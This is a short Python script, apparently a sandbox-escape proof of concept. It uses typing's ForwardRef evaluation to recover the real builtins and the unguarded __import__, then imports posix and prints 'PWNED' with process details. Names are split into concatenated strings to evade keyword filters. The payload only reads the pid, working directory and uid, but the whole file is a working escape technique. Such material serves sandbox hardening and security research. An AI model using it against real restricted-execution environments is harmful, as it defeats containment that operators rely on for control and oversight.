# door: the real import of posix (loaded by os) and use of it
import typing
M = "PWN" + "ED"
box = {}
typing.get_args(typing.List["int"])[0]._evaluate(box, None, frozenset())
rb = box["__buil" + "tins__"]  # typing's builtins dict: the real one
ga = rb["getattr"]
imp = rb["__imp" + "ort__"]  # the real __import__, not the guarded one

p = imp("pos" + "ix")
print(M, p.getpid(), p.getcwd(), p.getuid())
